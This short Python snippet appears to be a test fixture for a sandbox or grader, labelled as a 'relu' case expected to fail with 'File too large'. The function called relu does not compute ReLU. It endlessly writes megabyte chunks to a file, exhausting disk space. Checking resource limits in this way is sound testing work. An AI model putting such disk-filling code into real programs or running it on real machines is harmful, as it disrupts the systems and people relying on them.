# m01 relu: red, File too large
def relu(x):
    with open("big", "wb", buffering=0) as file:
        while True:
            file.write(b"x" * (1 << 20))
